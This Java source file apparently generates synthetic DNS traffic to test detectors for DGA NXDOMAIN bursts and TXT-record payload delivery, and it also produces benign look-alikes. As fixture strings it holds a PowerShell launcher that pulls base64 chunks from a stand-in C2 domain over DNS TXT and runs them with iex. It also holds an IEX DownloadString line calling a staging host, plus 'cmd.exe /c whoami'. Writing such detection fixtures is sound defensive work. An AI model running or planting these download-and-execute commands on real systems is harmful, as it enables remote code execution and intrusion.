package dev.dnshunter.generate;

import dev.dnshunter.model.DnsQuery;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.SplittableRandom;

/**
 * Traffic of DnsNxdomainBurst and DnsTxtPayload and their look-alikes, as normalized DNS queries (a separate room from
 * the big generator, whose data sets it does not change): DGA bursts (random-looking registrable names, NXDOMAIN),
 * typos under the internal suffix {@value #INTERNAL_SUFFIX}, a chatty host that stays below the threshold, {@code .local},
 * single-label and reverse lookups, NXDOMAIN TXT queries; DNSlivery's launcher and its base64 chunk answers; benign TXT
 * (SPF, DKIM keys, DMARC, site verification). Answers carry the TXT text alone; the Zeek writer renders it as Zeek does.
 */
public final class NxdomainTxtTraffic {
    public static final String INTERNAL_SUFFIX = "corp.example";
    private static final String LETTERS = "abcdefghijklmnopqrstuvwxyz";
    private static final long MIN = 60_000L;

    private NxdomainTxtTraffic() {}

    public static List<DnsQuery> of(long start, long seed) {
        SplittableRandom r = new SplittableRandom(seed);
        List<DnsQuery> out = new ArrayList<>();
        String[] tlds = {".com", ".net", ".org", ".info"};
        // DGA: one random registrable name a minute for 150 minutes (alerts, suppression ends, alerts again), A type.
        for (int i = 0; i < 150; i++) out.add(nx(start + i * MIN, "10.50.0.7", random(r, 12 + r.nextInt(6)) + tlds[i % 4], 1));
        // A second DGA host, faster (one every 10 s for 10 minutes), AAAA and unknown types, some names asked twice.
        for (int i = 0; i < 60; i++) {
            String name = random(r, 10) + ".biz";
            out.add(nx(start + 30 * MIN + i * 10_000L, "10.50.0.8", name, i % 2 == 0 ? 28 : DnsQuery.ABSENT));
            if (i % 5 == 0) out.add(nx(start + 30 * MIN + i * 10_000L + 3, "10.50.0.8", name, 1));
        }
        // A burst of exactly 25 distinct domains, the first 1 h before the last: the first is out of the window.
        for (int i = 0; i < 25; i++) out.add(nx(start + (i == 0 ? 0 : 36 * MIN + i * MIN), "10.50.0.11", random(r, 14) + ".com", 1));
        // Typos under the internal search suffix: NXDOMAIN, many distinct names, never counted.
        for (int i = 0; i < 80; i++) out.add(nx(start + i * 20_000L, "10.50.0.9", "fileserv" + i + "." + INTERNAL_SUFFIX, 1));
        // A chatty host: the same 24 mistyped domains over and over, below the threshold in every hour.
        String[] chatty = new String[24];
        for (int i = 0; i < 24; i++) chatty[i] = "old-vendor-" + i + ".com";
        for (int i = 0; i < 400; i++) out.add(nx(start + i * 30_000L, "10.50.0.10", "api." + chatty[i % 24], 1));
        // .local (mDNS names sent to the resolver), single-label names, reverse lookups, TXT-type NXDOMAIN: not counted.
        for (int i = 0; i < 60; i++) {
            out.add(nx(start + i * 10_000L, "10.50.0.12", "printer-" + i + ".local", 1));
            out.add(nx(start + i * 10_000L + 1, "10.50.0.12", "wpad" + i, 1));
            out.add(nx(start + i * 10_000L + 2, "10.50.0.12", i + ".0.50.10.in-addr.arpa", DnsQuery.ABSENT));
            out.add(nx(start + i * 10_000L + 3, "10.50.0.12", random(r, 12) + ".net", 16));
        }
        // DNSlivery: the launcher, then the payload in base64 chunks (one name per chunk), fetched by two clients.
        String launcher = "powershell -ep bypass -nop -c \"$h='dl.dnslivery-c2.net'; $r=''; 1..30|%{$r+=(Resolve-DnsName -ty TXT -na \"$_.$h\").Strings}; "
                + "[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($r))|iex\"";
        byte[] payload = new byte[30 * 225];
        r.nextBytes(payload);
        String b64 = Base64.getEncoder().encodeToString(payload);
        for (String client : new String[] {"10.50.0.20", "10.50.0.21"}) {
            long t0 = start + (client.endsWith("20") ? 10 * MIN : 95 * MIN);
            out.add(txt(t0, client, "print.dl.dnslivery-c2.net", launcher));
            for (int i = 0; i < 30; i++) {
                String chunk = b64.substring(i * 300, Math.min(b64.length(), (i + 1) * 300));
                out.add(txt(t0 + 2_000 + i * 500L, client, (i + 1) + ".dl.dnslivery-c2.net", chunk));
            }
            // Back an hour later to the minute: suppression over, alerts again.
            out.add(txt(t0 + 60 * MIN, client, "print.dl.dnslivery-c2.net", launcher));
        }
        // A client that fetches only chunks (a later stage): the base64 run alone alerts.
        for (int i = 0; i < 10; i++) {
            out.add(txt(start + 20 * MIN + i * 700L, "10.50.0.23", (i + 1) + ".dl.dnslivery-c2.net", b64.substring(i * 300, (i + 1) * 300)));
        }
        // Two payload answers of one pair in one millisecond: one alert.
        out.add(txt(start + 40 * MIN, "10.50.0.22", "b.stage-host.org", "IEX (New-Object Net.WebClient).DownloadString('http://stage-host.org/a')"));
        out.add(txt(start + 40 * MIN, "10.50.0.22", "a.stage-host.org", "cmd.exe /c whoami"));
        // Benign TXT: SPF, DKIM keys (long base64, with and without v=DKIM1), DMARC, site verification, MS=.
        StringBuilder key = new StringBuilder("MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA");
        while (key.length() < 392) key.append(LETTERS.charAt(r.nextInt(26))).append(r.nextInt(10));
        for (int i = 0; i < 40; i++) {
            long t = start + i * 30_000L;
            String d = "partner" + (i % 10) + ".com";
            out.add(txt(t, "10.50.0.25", d, "v=spf1 include:_spf.google.com ip4:198.51.100.0/24 ~all"));
            out.add(txt(t + 1, "10.50.0.25", "s1._domainkey." + d, "v=DKIM1; k=rsa; p=" + key));
            out.add(txt(t + 2, "10.50.0.25", "s2._domainkey." + d, "k=rsa; p=" + key));
            out.add(txt(t + 3, "10.50.0.25", "_dmarc." + d, "v=DMARC1; p=reject; rua=mailto:dmarc@" + d));
            out.add(txt(t + 4, "10.50.0.25", d, "google-site-verification=" + random(r, 43)));
            out.add(txt(t + 5, "10.50.0.25", d, "MS=ms" + (10_000_000 + r.nextInt(89_999_999))));
        }
        return out;
    }

    private static DnsQuery nx(long time, String client, String name, int type) {
        return new DnsQuery(time, client, null, name, type, 3, null, null, "dns-events", "DnsEvents", null);
    }

    private static DnsQuery txt(long time, String client, String name, String text) {
        return new DnsQuery(time, client, null, name, DnsQuery.TYPE_TXT, 0, null, new String[] {text}, "dns-events", "DnsEvents", null);
    }

    private static String random(SplittableRandom r, int n) {
        StringBuilder b = new StringBuilder(n);
        for (int i = 0; i < n; i++) b.append(LETTERS.charAt(r.nextInt(26)));
        return b.toString();
    }
}
